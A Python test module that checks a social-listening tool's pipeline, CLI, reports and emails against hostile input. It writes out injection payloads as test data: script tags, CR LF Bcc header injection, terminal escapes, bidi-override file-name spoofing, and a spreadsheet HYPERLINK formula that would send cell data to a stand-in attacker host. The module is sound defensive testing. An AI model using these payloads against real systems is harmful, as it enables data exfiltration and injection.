"""Hostile text end to end: post texts, handles, names, bios, a topic label and a programme label
full of markup, script, template syntax, SQL, spreadsheet formulas, bidirectional and zero-width
characters, control characters, newlines and 10,000 emoji (tests/hostile.py) go through the real
pipeline on a copy of the demo home, then through `escucha inquire`, the report pages (in a real
chromium), the weekly digest and an alert email (through a real local SMTP server).

What must hold: every string lands byte for byte (or is quarantined with its reason when a row is
truly invalid), runs nowhere, injects nothing, and is shown as text; email headers stay one line.
"""
from __future__ import annotations

import csv
import io
import json
import re
import unicodedata
from collections.abc import Iterator
from dataclasses import dataclass
from datetime import date, datetime
from email.message import EmailMessage
from html.parser import HTMLParser
from pathlib import Path

import duckdb
import pytest
import yaml

from escucha.home import DataHome
from orchestration.run import RunOutcome
from reports.digest import no_tags, safe_handle, safe_text
from reports.formats import TEXT_CHARS, clip, fmt_handle
from tests import hostile
from tests.browser import PageReport, open_page, require_chromium
from tests.conftest import DEMO_END, DEMO_START, copy_home
from tests.hostile import HOSTILE, HostilePost
from tests.mailserver import Inbox, local_smtp

HOSTILE_TOPIC_LABEL = ("Derrame <script>window.__pwned='topic'</script>\r\nBcc: intruso@example.org "
                       "{{ 7*7 }} \u202eodamra")
HOSTILE_PROGRAMME_LABEL = "Ambiente\r\nBcc: intruso@example.org <b>x</b> %s {0}"
PROGRAMME = "ambiente"
FOCAL_POINT = "ana.torres@example.org"
RECIPIENTS = ["ana.torres@example.org", "ambiente@example.org"]
SENDER = "escucha@example.org"

# After a page loads: did anything run, and what elements exist?
PWNED = "typeof window.__pwned"
TITLE = "document.title"
TAG_COUNTS = ("Object.fromEntries(Array.from(new Set(Array.from(document.querySelectorAll('*'), e => e.localName)),"
              " t => [t, document.getElementsByTagName(t).length]))")
ON_ATTRIBUTES = ("Array.from(document.querySelectorAll('*')).filter(e => Array.from(e.attributes)"
                 ".some(a => a.name.startsWith('on') || a.name === 'srcdoc' || a.name === 'autofocus')).length")
JS_LINKS = "Array.from(document.querySelectorAll('[href],[src]'), e => e.getAttribute('href') || e.getAttribute('src'))"
CHECKS = [PWNED, TITLE, TAG_COUNTS, ON_ATTRIBUTES, JS_LINKS]
LINE_BREAKING = ("Cc", "Zl", "Zp")  # control characters, line and paragraph separators
# Elements a hostile string could inject: a page has exactly as many as the same page of the demo data.
ACTIVE_TAGS = ("script", "img", "iframe", "object", "embed", "base", "meta", "link", "style", "title", "textarea",
               "form", "input", "button", "a", "svg", "video", "audio")


def bdi_rows(query: str) -> str:
    """The text of every <bdi> of each row of a report table (its named query)."""
    return (f"Array.from(document.querySelectorAll('table[data-query={query}] tbody tr'), "
            "tr => [tr.dataset.row || '', Array.from(tr.querySelectorAll('bdi'), b => b.textContent)])")


@dataclass
class HostileRun:
    """The demo home after the hostile exports ran through the pipeline, and the untouched template."""

    home: DataHome
    outcome: RunOutcome
    template: DataHome
    template_outcome: RunOutcome
    posts: list[HostilePost]


@pytest.fixture(scope="module")
def run(demo_template, tmp_path_factory: pytest.TempPathFactory) -> Iterator[HostileRun]:
    """A copy of the demo home with a hostile programme label (programmes file), a hostile topic
    label (a focal point's change) and the hostile exports in its inbox, run once through the
    pipeline over the demo window."""
    from escucha.topics.registry import Registry, config_path
    from orchestration.run import run_pipeline

    template, template_outcome = demo_template
    root = tmp_path_factory.mktemp("hostile")
    mp = pytest.MonkeyPatch()
    home = copy_home(template, root / "home")
    mp.setenv("ESCUCHA_HOME", str(home.root))
    config = yaml.safe_load(config_path().read_text(encoding="utf-8"))
    config["programmes"][PROGRAMME]["label"] = HOSTILE_PROGRAMME_LABEL
    programmes = root / "programmes.yaml"
    programmes.write_text(yaml.safe_dump(config, allow_unicode=True), encoding="utf-8")
    mp.setenv("ESCUCHA_PROGRAMMES", str(programmes))
    try:
        Registry.open(home).set(hostile.TOPIC, by=FOCAL_POINT, label=HOSTILE_TOPIC_LABEL, note="hostile label")
        posts = hostile.hostile_posts()
        hostile.write_twarc2(home.inbox / "hostile_x.jsonl", posts)
        hostile.write_crowdtangle(home.inbox / "hostile_facebook.csv", posts)
        outcome = run_pipeline(home, DEMO_START, DEMO_END)
        yield HostileRun(home, outcome, template, template_outcome, posts)
    finally:
        mp.undo()


def sql(home: DataHome, query: str, params: list | None = None) -> list[tuple]:
    with duckdb.connect(str(home.warehouse), read_only=True) as con:
        return con.execute(query, params or []).fetchall()


def html_text(value: str) -> str:
    """A string as the HTML parser hands it to the DOM: CR LF and lone CR become LF."""
    return value.replace("\r\n", "\n").replace("\r", "\n")


def controls_in(text: str, allowed: str = "") -> list[str]:
    """Control characters (C0, C1) and bidirectional controls left in ``text``."""
    bidi = "\u061c\u200e\u200f\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069"
    return [c for c in text if (unicodedata.category(c) == "Cc" and c not in allowed) or c in bidi]


# --------------------------------------------------------------------------- ingestion


def test_the_pipeline_runs_and_every_hostile_row_lands_byte_for_byte(run: HostileRun) -> None:
    assert run.outcome.success, run.outcome.steps
    failed = {name for name, ok in run.outcome.checks.items() if not ok}
    assert failed == {name for name, ok in run.template_outcome.checks.items() if not ok}
    assert len(run.posts) == 2 * len(HOSTILE) == 60
    keys = [p.post_key for p in run.posts]
    landed = {row[0]: row[1:] for row in sql(run.home, """
        select post_key, network, text, author_key, created_at, engagement from marts.fct_posts
        where post_key in (select unnest(?))""", [keys])}
    assert set(landed) == set(keys)
    for p in run.posts:
        assert landed[p.post_key] == (p.network, p.text, p.author_key, p.created_at, p.engagement), p.post_key
    authors = {row[0]: row[1:] for row in sql(run.home, """
        select author_key, handle, display_name, bio, location from marts.dim_authors
        where author_key in (select unnest(?))""", [[p.author_key for p in run.posts]])}
    for p in run.posts:  # (a Facebook location is null: CrowdTangle has none, and none is invented)
        assert authors[p.author_key] == (p.handle, p.display_name, p.bio, p.location), p.author_key
    # every string is a text, a handle, a display name and a bio on both networks
    for network in hostile.NETWORKS:
        mine = [p for p in run.posts if p.network == network]
        for field in ("handle", "display_name", "bio"):
            assert {getattr(p, field) for p in mine} == set(HOSTILE.values()), (network, field)
        assert {p.text for p in mine} == {hostile.post_text(s) for s in HOSTILE.values()}


def test_truly_invalid_rows_are_quarantined_with_their_reason(run: HostileRun) -> None:
    rows = sql(run.home, """
        select file_name, line, day, reason from internal.quarantine
        where file_name like 'hostile_%' order by file_name""")
    assert rows == [
        # a CrowdTangle row whose URL is a javascript: URL has no post id to key it by
        ("hostile_facebook.csv", 32, date(2022, 1, 15), f"URL has no post id: {hostile.BAD_FACEBOOK_URL}"),
        # a tweet id is digits: an SQL fragment is not one (the whole page is line 1)
        ("hostile_x.jsonl", 1, date(2022, 1, 15), f"tweet id is not numeric: {hostile.BAD_TWEET_ID}"),
    ]
    accounting = sql(run.home, """
        select file_name, format, rows_in, rows_landed, rows_duplicate, rows_quarantined from internal.raw_files
        where file_name like 'hostile_%' order by file_name""")
    assert accounting == [("hostile_facebook.csv", "crowdtangle", 31, 30, 0, 1),
                          ("hostile_x.jsonl", "twarc2", 32, 31, 0, 1)]  # 30 hostile + the control tweet


def test_no_sql_in_the_data_ran(run: HostileRun) -> None:
    tables = "select table_schema, table_name from information_schema.tables order by 1, 2"
    mine, demo = set(sql(run.home, tables)), set(sql(run.template, tables))
    assert demo <= mine, "no table was dropped"
    # nothing new either, but dbt-duckdb's incremental scratch tables (main.<model>__dbt_tmp<time>)
    assert {t for t in mine - demo if not (t[0] == "main" and "__dbt_tmp" in t[1])} == set()
    counts = ("select (select count(*) from marts.fct_posts), (select count(*) from marts.dim_authors), "
              "(select count(*) from internal.quarantine), (select count(*) from internal.raw_files)")
    posts, authors, quarantined, files = sql(run.template, counts)[0]
    assert sql(run.home, counts)[0] == (posts + 61, authors + 60, quarantined + 2, files + 2)
    # the demo's own posts are untouched
    fingerprint = ("select count(*), sum(hash(post_key, text, author_key)) from marts.fct_posts "
                   "where post_key not in (select unnest(?))")
    ours = [p.post_key for p in run.posts] + ["x:" + hostile.CONTROL_TWEET_ID]
    assert sql(run.home, fingerprint, [ours]) == sql(run.template, fingerprint, [ours])


# --------------------------------------------------------------------------- topics


def test_hostile_posts_match_the_topic_their_keywords_say(run: HostileRun) -> None:
    keys = [p.post_key for p in run.posts]
    matched = sql(run.home, """
        select post_key, topic_id, matched_terms, is_relevant from marts.fct_post_topics
        where post_key in (select unnest(?)) order by post_key""", [keys + ["x:" + hostile.CONTROL_TWEET_ID]])
    assert matched == sorted((k, hostile.TOPIC, ["derrame", "petroleo"], True) for k in keys)
    # the control post (SQL, script and template syntax, no keyword) landed and matches no topic
    assert sql(run.home, "select text from marts.fct_posts where post_key = ?",
               ["x:" + hostile.CONTROL_TWEET_ID]) == [(hostile.CONTROL_TEXT,)]
    assert sql(run.home, "select topic_label from marts.dim_topics where topic_id = ?",
               [hostile.TOPIC]) == [(HOSTILE_TOPIC_LABEL,)]
    assert sql(run.home, "select programme_label from marts.dim_programmes where programme_id = ?",
               [PROGRAMME]) == [(HOSTILE_PROGRAMME_LABEL,)]


def test_inquire_returns_hostile_posts_as_data(run: HostileRun, capsys: pytest.CaptureFixture[str]) -> None:
    from escucha.cli import main

    argv = ["--home", str(run.home.root), "inquire", "derrame", "--from", "2022-01-15", "--to", "2022-01-15",
            "--top", str(len(run.posts))]
    assert main([*argv, "--json"]) == 0
    answer = json.loads(capsys.readouterr().out)
    # the most engaged posts of the day are the hostile ones, byte for byte, in engagement order
    assert [(t["post_key"], t["text"], t["engagement"]) for t in answer["top_posts"]] == \
        [(p.post_key, p.text, p.engagement) for p in run.posts]
    assert [(a["author_key"], a["name"]) for a in answer["top_accounts"]] == \
        [(p.author_key, p.handle) for p in run.posts]
    # a query made of an SQL fragment is words to look for, not SQL: it finds the posts that say them
    assert main(["--home", str(run.home.root), "inquire", '"drop table marts fct_posts"', "--json"]) == 0
    found = json.loads(capsys.readouterr().out)
    sql_drop = hostile.post_text(HOSTILE["sql_drop"])
    assert sorted(t["text"] for t in found["top_posts"]) == [sql_drop, sql_drop]
    # the terminal table shows control characters escaped, never raw (no terminal escape runs)
    assert main(argv) == 0
    table = capsys.readouterr().out
    assert controls_in(table, allowed="\n") == []
    assert "\\x1b[31mrojo\\x1b[0m" in table


def test_query_csv_opens_formulas_as_text_and_the_table_escapes_controls(
        run: HostileRun, capsys: pytest.CaptureFixture[str]) -> None:
    from escucha.cli import main

    x = [p for p in run.posts if p.network == "x"]
    keys = ", ".join(f"'{p.author_key}'" for p in x)
    query = f"select author_key, handle, display_name, followers from marts.dim_authors where author_key in ({keys})"
    assert main(["--home", str(run.home.root), "query", "--csv", f"{query} order by author_key"]) == 0
    rows = list(csv.reader(io.StringIO(capsys.readouterr().out, newline="")))
    assert rows[0] == ["author_key", "handle", "display_name", "followers"]
    formula = ("=", "+", "-", "@", "\t", "\r")
    for row, p in zip(rows[1:], sorted(x, key=lambda p: p.author_key), strict=True):
        # every value comes back, text that a spreadsheet would run as a formula behind a '
        expected = ["'" + v if v.startswith(formula) else v for v in (p.handle, p.display_name)]
        assert row == [p.author_key, *expected, str(hostile.FOLLOWERS)], p.author_key
    assert {"'" + HOSTILE["csv_hyperlink"], "'" + HOSTILE["csv_command"]} <= {v for row in rows for v in row}
    # the terminal table: one line per row, control and bidirectional characters escaped
    assert main(["--home", str(run.home.root), "query", f"{query} order by author_key"]) == 0
    table = capsys.readouterr().out
    assert controls_in(table, allowed="\n") == []
    assert len(table.splitlines()) == len(x) + 3  # header, rule, rows, count
    assert "línea 1\\r\\nBcc: intruso@example.org\\r\\n\\r\\nlínea 3\\nSubject: hola" in table
    assert "\\u202egnp.exe\\u202c admin\\u202e" in table


# --------------------------------------------------------------------------- reports


def page_report(path: Path, shots: Path, *extra: str) -> PageReport:
    """A page loaded in chromium with the standard checks (and ``extra`` expressions) evaluated."""
    return open_page(path, shots / f"{path.stem}.png", evaluate=[*CHECKS, *extra])


def assert_nothing_ran(page: PageReport, own: PageReport) -> None:
    """No script ran, nothing was requested, and the page has exactly the active elements of the
    same page rendered from the demo data (``own``)."""
    assert page.evaluated[PWNED] == "undefined"
    assert page.dialogs == [] and page.requests == [] and page.page_errors == []
    assert page.console_of("error") == []
    assert page.evaluated[ON_ATTRIBUTES] == 0
    assert not [u for u in page.evaluated[JS_LINKS] if not u.startswith(("#", "data:", "evolution-", "overview"))]
    counts = {t: page.evaluated[TAG_COUNTS].get(t, 0) for t in ACTIVE_TAGS}
    assert counts == {t: own.evaluated[TAG_COUNTS].get(t, 0) for t in ACTIVE_TAGS}
    assert counts["script"] == counts["img"] == counts["iframe"] == counts["base"] == 0


def test_overview_shows_every_hostile_string_as_text(run: HostileRun, tmp_path: Path) -> None:
    require_chromium()
    rows_js = bdi_rows("top_posts")
    page = page_report(run.home.reports / "overview.html", tmp_path, rows_js)
    own = page_report(run.template.reports / "overview.html", tmp_path / "template")
    assert_nothing_ran(page, own)
    assert page.evaluated[TITLE] == own.evaluated[TITLE] == "escucha — resumen de conversaciones"
    shown = run.posts[:hostile.SHOWN]
    rows = page.evaluated[rows_js]
    assert len(rows) == len(shown)
    seen: set[str] = set()
    for (_, cells), p in zip(rows, shown):
        # handle, display name, text: exactly the stored strings as text (the text clipped)
        assert cells == [html_text(fmt_handle(p.handle)), html_text(p.display_name), clip(p.text, TEXT_CHARS)]
        seen |= {p.handle, p.display_name, p.text.removesuffix(" · " + hostile.KEYWORDS)}
    assert seen == set(HOSTILE.values()), "every hostile string is on the page"
    # and visible as such: what the reader sees holds each one-line string literally
    # (all but the two with line breaks and control characters, whose cells are compared above)
    one_line = {n: v for n, v in HOSTILE.items() if not [c for c in v if unicodedata.category(c) in LINE_BREAKING]}
    assert set(HOSTILE) - set(one_line) == {"newlines", "controls"}
    for name, value in one_line.items():
        assert value in page.text, name
    assert "49" not in re.findall(r"\{\{ ?(\d+) ?\}\}", page.text)


def test_evolution_reports_show_hostile_names_and_labels_as_text(run: HostileRun, tmp_path: Path) -> None:
    require_chromium()
    from escucha.cli import main

    assert main(["--home", str(run.home.root), "report", "evolution", "--programme", PROGRAMME,
                 "--period", "2022-01"]) == 0
    own = page_report(run.template.reports / f"evolution-{PROGRAMME}-2022.html", tmp_path / "template")
    leaders_js, communities_js = bdi_rows("evolution_leaders"), bdi_rows("evolution_communities")
    label = html_text(HOSTILE_TOPIC_LABEL)
    # the hostile accounts every hostile X post mentions lead the topic: the leaders table names them
    leaders = [p for p in run.posts if p.network == "x"][:hostile.LEADERS]
    title = "Evolución de la conversación — Ambiente Bcc: intruso@example.org <b>x</b> %s {0} — "
    top = [handles for handles, in sql(run.home, """
        select top_handles from marts.fct_topic_communities where topic_id = ?
        order by accounts desc, community limit 3""",
        [hostile.TOPIC])]
    assert any(set(handles[:3]) == {p.handle for p in leaders} for handles in top)
    for name, period in ((f"evolution-{PROGRAMME}-2022.html", "2022"),
                         (f"evolution-{PROGRAMME}-2022-01.html", "enero 2022")):
        page = page_report(run.home.reports / name, tmp_path, leaders_js, communities_js)
        assert_nothing_ran(page, own)
        # the programme label is text in the title: its CR LF is whitespace there, its tag is text
        assert page.evaluated[TITLE] == title + period
        rows = [(key, cells) for key, cells in page.evaluated[leaders_js] if cells[0] == label]
        assert [key for key, _ in rows] == [p.author_key for p in leaders]
        for (_, cells), p in zip(rows, leaders):
            assert cells[1] == html_text(fmt_handle(p.handle)), p.author_key
        # the topic's communities list their top accounts' handles, clipped, as text
        shown = [cells[1] for _, cells in page.evaluated[communities_js] if cells[0] == label]
        assert shown == [html_text(clip(", ".join(fmt_handle(h) for h in handles[:3]), 120)) for handles in top]
        assert " ".join(label.split()) in page.text


# --------------------------------------------------------------------------- emails


class Page(HTMLParser):
    """Tags, attributes and text of an HTML document, as a mail client's parser sees them."""

    def __init__(self, html: str) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, dict[str, str | None]]] = []
        self.chunks: list[str] = []
        self.feed(html)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, dict(attrs)))

    def handle_data(self, data: str) -> None:
        self.chunks.append(data)

    @property
    def text(self) -> str:
        return "".join(self.chunks)


def email_parts(message: EmailMessage) -> tuple[str, str]:
    """(text, html) of a multipart/alternative email."""
    assert message.get_content_type() == "multipart/alternative"
    text, html = message.get_body(preferencelist=("plain",)), message.get_body(preferencelist=("html",))
    assert text is not None and html is not None
    return text.get_content(), html.get_content()


def assert_email_inert(message: EmailMessage, subject: str, recipients: list[str]) -> tuple[str, Page]:
    """One Subject line exactly ``subject``, no header smuggled in, and an HTML part with no active
    element or attribute. Returns the text part and the parsed HTML part."""
    headers = message.as_bytes().split(b"\n\n", 1)[0]
    assert message["Subject"] == subject
    # folded or not, the subject's "Bcc:" never starts a header line of its own
    assert re.findall(rb"(?im)^(bcc|cc|subject):", headers) == [b"Subject"]
    assert message.get_all("Bcc") is None and message.get_all("Cc") is None
    assert [a.strip() for a in message["To"].split(",")] == recipients
    text, html = email_parts(message)
    page = Page(html)
    tags = {tag for tag, _ in page.tags}
    assert not tags & {"script", "img", "iframe", "object", "embed", "base", "link", "meta", "form", "input",
                       "textarea", "style", "b", "a", "title"} - {"meta", "title"}, tags  # no post has a URL here
    for tag, attrs in page.tags:
        assert not [a for a in attrs if a.startswith("on") or a in ("srcdoc", "autofocus")], (tag, attrs)
        assert not re.match(r"\s*javascript:", attrs.get("href") or "", re.I), (tag, attrs)
    assert "<script" not in html.lower()
    return text, page


def open_email_html(html: str, tmp_path: Path, name: str) -> PageReport:
    """The HTML part of an email, loaded in chromium as a file."""
    path = tmp_path / f"{name}.html"
    path.write_text(html, encoding="utf-8")
    return open_page(path, tmp_path / f"{name}.png", evaluate=[PWNED, "document.scripts.length",
                                                               "document.images.length"])


def assert_browser_inert(page: PageReport) -> None:
    assert page.evaluated == {PWNED: "undefined", "document.scripts.length": 0, "document.images.length": 0}
    assert page.dialogs == [] and page.requests == [] and page.page_errors == []


@pytest.fixture
def smtp(monkeypatch: pytest.MonkeyPatch):
    """A real local SMTP server, named in ESCUCHA_SMTP_* as `escucha` reads it."""
    with local_smtp() as (port, inbox):
        for key, value in {"HOST": "127.0.0.1", "PORT": str(port), "SECURITY": "none", "FROM": SENDER}.items():
            monkeypatch.setenv(f"ESCUCHA_SMTP_{key}", value)
        yield port, inbox


def test_digest_email_escapes_hostile_text_and_keeps_its_subject_one_line(
        run: HostileRun, smtp: tuple[int, Inbox], tmp_path: Path) -> None:
    from escucha.cli import main

    _, inbox = smtp
    assert main(["--home", str(run.home.root), "digest", "send", "--programme", PROGRAMME,
                 "--week-of", "2022-01-14"]) == 0
    assert len(inbox.received) == 1 and inbox.received[0].rcpt_tos == RECIPIENTS
    text, page = assert_email_inert(
        inbox.received[0].message,
        "[escucha] Resumen semanal — Ambiente Bcc: intruso@example.org <b>x</b> %s {0} — 10–16 ene 2022",
        RECIPIENTS)
    _, html = email_parts(inbox.received[0].message)
    # the three most engaged posts of the topic and their accounts, as text in both parts
    top = run.posts[:3]
    script = hostile.post_text(HOSTILE["script"])
    assert top[0].text == script and script in page.text
    assert "&lt;script&gt;window.__pwned=&#39;script&#39;" in html
    assert no_tags(script) == "‹script›window.__pwned='script';document.title='pwned'‹/script› · derrame de petróleo"
    for p in top:
        assert safe_text(p.text) in page.text and no_tags(safe_text(p.text)) in text, p.post_key
        assert safe_handle(p.handle) in page.text and no_tags(safe_handle(p.handle)) in text, p.post_key
        assert safe_text(p.display_name, 60) in page.text, p.post_key
    # the topic label: its markup is text, its CR LF a space, clipped to 80 characters on a word
    label = "Derrame <script>window.__pwned='topic'</script> Bcc: intruso@example.org {{…"
    assert safe_text(HOSTILE_TOPIC_LABEL, 80) == label
    assert label in page.text and f"{no_tags(label)}: 90 publicaciones" in text
    assert "gnp.exe admin" in page.text  # the first account's display name, its overrides dropped
    assert controls_in(text, allowed="\r\n") == [] and controls_in(html, allowed="\r\n") == []
    assert_browser_inert(open_email_html(html, tmp_path, "digest"))


def alert_top_posts(run: HostileRun, names: list[str]) -> list[tuple]:
    """(post_key, network, handle, text, engagement, created_at) of the X posts whose text is
    each named hostile string, from the warehouse."""
    texts = [hostile.post_text(HOSTILE[n]) for n in names]
    rows = sql(run.home, """
        select p.post_key, p.network, a.handle, p.text, p.engagement, p.created_at
        from marts.fct_posts as p join marts.dim_authors as a on a.author_key = p.author_key
        where p.network = 'x' and p.text in (select unnest(?))""", [texts])
    return sorted(rows, key=lambda r: texts.index(r[3]))


def test_alert_email_shows_hostile_posts_as_text_with_one_line_headers(
        run: HostileRun, smtp: tuple[int, Inbox], tmp_path: Path) -> None:
    """The demo window is too short for a baseline, so the pipeline raises no alert: the alert
    here is made from the warehouse's hostile topic label and posts, and sent the way the alerts
    sensor sends (pending alerts, the ledger, the programme's focal points, SMTP)."""
    from escucha.alerts.notify import Alert, SmtpSettings, TopPost
    from escucha.alerts.pending import AlertSending, programmes, send_pending, summarise

    port, inbox = smtp
    names = ["script", "newlines", "controls", "right_to_left_override", "csv_hyperlink", "emoji_10000"]
    rows = alert_top_posts(run, names)
    assert len(rows) == len(names)
    label = sql(run.home, "select topic_label from marts.dim_topics where topic_id = ?", [hostile.TOPIC])[0][0]
    onset = datetime(2022, 1, 15, 15, 0)
    top = tuple(TopPost(post_key=k, network=n, author=h, text=t, url=None, engagement=e, created_at=c)
                for k, n, h, t, e, c in rows)
    alert = Alert(alert_id="hostile-1", kind="viral_post", topic_id=hostile.TOPIC, topic_label=label,
                  programme_id=PROGRAMME, programme_label=programmes()[PROGRAMME].label, severity="high",
                  onset=onset, detected_at=onset, last_seen=onset, posts=top[0].engagement, baseline=900_000,
                  ratio=10.0, summary=summarise("viral_post", label, top[0].engagement, 900_000, 10.0, onset,
                                                top[0].author), top_posts=top)
    settings = SmtpSettings(host="127.0.0.1", port=port, security="none", sender=SENDER, timeout=10)
    report = send_pending(run.home, AlertSending(settings, None), datetime(2022, 1, 1), datetime(2022, 1, 15, 16),
                          alerts=[alert])
    assert report.sent_emails == 1 and report.failures == []
    assert len(inbox.received) == 1 and inbox.received[0].rcpt_tos == [FOCAL_POINT]
    text, page = assert_email_inert(
        inbox.received[0].message,
        "[escucha] Alerta alta: Derrame <script>window.__pwned='topic'</script> Bcc: intruso@example.org "
        "{{ 7*7 }} odamra +900% (Ambiente Bcc: intruso@example.org <b>x</b> %s {0})",
        [FOCAL_POINT])
    _, html = email_parts(inbox.received[0].message)
    # each post as one line of text: markup literal, CR LF and controls as spaces, overrides dropped,
    # 10,000 emoji cut to 280 characters
    keywords = " · " + hostile.KEYWORDS
    expected = [
        "<script>window.__pwned='script';document.title='pwned'</script>" + keywords,
        "línea 1 Bcc: intruso@example.org línea 3 Subject: hola" + keywords,
        "bell bs [31mrojo [0m ]0;pwned fin" + keywords,
        "gnp.exe admin" + keywords,
        "=HYPERLINK(\"http://evil.example/?d=\"&A1,\"clic\")" + keywords,
        "\U0001F600" * 279 + "…",
    ]
    for line in expected:
        assert line in page.text and line in text, line[:60]
    assert "&lt;script&gt;window.__pwned=&#39;script&#39;" in html
    # the accounts (a table breakout, a style breakout, attribute breakouts, a script)
    for _, _, handle, *_ in rows:
        assert handle in page.text and handle in text, handle[:40]
    assert rows[0][2] == HOSTILE["table_breakout"]
    assert controls_in(text, allowed="\r\n") == [] and controls_in(html, allowed="\r\n") == []
    assert len(html) < 100_000
    assert_browser_inert(open_email_html(html, tmp_path, "alert"))

